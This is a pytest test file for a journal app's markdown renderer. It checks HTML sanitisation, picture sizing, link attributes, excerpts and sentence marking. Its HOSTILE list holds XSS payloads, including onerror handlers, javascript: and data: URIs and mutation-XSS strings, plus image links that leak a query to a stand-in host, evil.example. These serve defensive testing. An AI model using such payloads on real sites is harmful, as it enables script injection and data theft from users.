import re

import pytest

from journal.entries.markdown import excerpt, plain, render, with_sentence

PICTURE = "attachment:5b0c1f8e-3d4e-4f50-8a6b-7c8d9e0f1a2b"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "![](https://evil.example/?q=secret)",
    "![](//evil.example/a)",
    "![](attachment:../../evil.example)",
    '<img src="/a/../lock/">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](/lock/)",
    "[x](//evil.example/)",
    "<svg><script>1</script></svg>",
    "<svg><a xlink:href='javascript:1'>x</a></svg>",
    '<a href="https://a.b" hx-get="/lock" data-hx-post="/x" onclick=1>z</a>',
    "<div hx-get=/export hx-trigger=load>q</div>",
    "<form action=/lock><input name=csrfmiddlewaretoken><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=1>",
    '<p id="csrf" class="htmx-request" name=x style="position:fixed">',
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<hx-partial hx-target=body>q</hx-partial>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=1></textarea>",
    "<style>@import '//evil.example'</style>",
    "```html onload=alert(1)\n<script>\n```",
    "<b <script>alert(1)</script>0",
    "\n\ndata: event\n\n",
]
ATTRIBUTE = re.compile(r"<[a-z1-6]+((?: [^<>]*)?)>")
HARMLESS = re.compile(
    r'( href="(https?://|mailto:)[^"]*"| rel="noopener noreferrer nofollow"'
    r'| alt="[^"]*"| loading="lazy")*'
)
LIVE = "script|style|form|input|button|iframe|svg|math|base|meta|textarea|hx-partial|div"


@pytest.mark.parametrize("text", HOSTILE)
def test_no_tag_that_acts_is_left(text):
    assert not re.search(rf"<({LIVE})\b", render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_attribute_but_a_link_is_left(text):
    for attributes in ATTRIBUTE.findall(render(text)):
        assert HARMLESS.fullmatch(attributes)


def test_a_page_asks_no_other_computer_for_a_picture():
    assert "src" not in render("![sea](https://sea.example/sea.jpg)")


def test_a_picture_of_this_vault_is_shown():
    assert 'src="/a/bjvxzdm6b4ncw/" alt="sea"' in render(f"![sea]({PICTURE})")


@pytest.mark.parametrize(
    "text",
    [
        f"![sea]({PICTURE})",
        f'<img alt="a > b" title="x" src="{PICTURE}">',
        '<img width="9000" src="/a/bjvxzdm6b4ncw/" height="1">',
    ],
)
def test_a_picture_of_a_known_size_has_room_before_it_comes(text):
    html = render(text, sizes={"/a/bjvxzdm6b4ncw/": (600, 400)}.get)

    assert 'src="/a/bjvxzdm6b4ncw/" width="600" height="400"' in html
    assert (html.count("width="), html.count("height=")) == (1, 1)


@pytest.mark.parametrize(
    ("size", "room"),
    [((600, 640), (600, 640)), ((900, 1600), (360, 640)), ((2, 2048), (1, 640))],
)
def test_a_tall_picture_is_seen_whole(size, room):
    html = render(f"![sea]({PICTURE})", sizes=lambda _: size)

    assert 'width="{}" height="{}"'.format(*room) in html


def test_a_picture_of_an_unknown_size_is_given_none():
    assert "width" not in render(f"![sea]({PICTURE})", sizes={}.get)


def test_words_that_look_like_a_picture_stay_words():
    typed = '<img src="/a/bjvxzdm6b4ncw/"'

    assert "width" not in render(f"`{typed}` {typed}", sizes=lambda _: (600, 400))


def test_a_picture_beside_a_marked_sentence_has_its_room():
    html = with_sentence(f"Rain. ![sea]({PICTURE})", 0, 5, sizes=lambda _: (600, 400))

    assert '<mark id="mark">Rain.</mark>' in html
    assert 'width="600" height="400"' in html


def test_a_file_of_this_vault_is_linked():
    assert 'href="/a/bjvxzdm6b4ncw/"' in render(f"[ticket]({PICTURE})")


def test_a_link_tells_the_other_side_nothing():
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.org)")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b* ~~c~~", "<p><strong>a</strong> <em>b</em> <del>c</del></p>\n"),
        ("- [ ] a\n- [x] b", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
        ("#rain", "<p>#rain</p>\n"),
    ],
)
def test_what_was_meant_is_shown(text, html):
    assert render(text) == html


def test_a_heading_stands_below_those_of_the_page():
    assert render("# One\n###### Six") == "<h3>One</h3>\n<h6>Six</h6>\n"


@pytest.mark.parametrize("text", [">" * 100_000, "<b>" * 20_000, "1. " * 50_000])
def test_what_nests_absurdly_is_shown_as_it_was_typed(text):
    assert render(text).startswith("<pre>")
    assert "<b>" not in render(text)


def test_plain_words_have_no_marks():
    text = "# A *day*\n\nRain & <b>wind</b>\n\n| a | b |\n|--|--|\n| c | d |\n\n`x < y`"

    assert plain(text) == "A day Rain & wind a b c d x < y"


def test_an_excerpt_ends_with_a_whole_word():
    assert excerpt("one two, three four", 10) == "one two …"


def test_a_short_text_is_its_own_excerpt():
    assert excerpt("*one* two") == "one two"


class TestWithSentence:
    def test_a_sentence_stands_out(self):
        html = with_sentence("Rain *all* day. Soup.", 16, 21)

        assert html == '<p>Rain <em>all</em> day. <mark id="mark">Soup.</mark></p>\n'

    def test_a_mark_never_runs_across_elements(self):
        assert "<mark" not in with_sentence("Rain.\n\nSoup.", 0, 12)
        assert "<mark" not in with_sentence("Rain *all day* long.", 0, 9)

    def test_a_mark_takes_whole_elements_along(self):
        html = with_sentence("Rain *all* day.", 0, 15)

        assert html == '<p><mark id="mark">Rain <em>all</em> day.</mark></p>\n'

    @pytest.mark.parametrize(("start", "end"), [(0, 999), (50, 60), (3, 3), (5, 2)])
    def test_places_beyond_the_text_do_no_harm(self, start, end):
        assert "Rain." in plain(with_sentence("Rain. Soup.", start, end))

    def test_markers_in_the_text_are_no_marks(self):
        html = with_sentence("\ue000odd\ue001 Rain.", 6, 11)

        assert html == '<p>\ufffdodd\ufffd <mark id="mark">Rain.</mark></p>\n'


def test_an_at_before_a_name_stays_as_it_is():
    assert render("With @Anna, @O'Brien.\n") == "<p>With @Anna, @O'Brien.</p>\n"
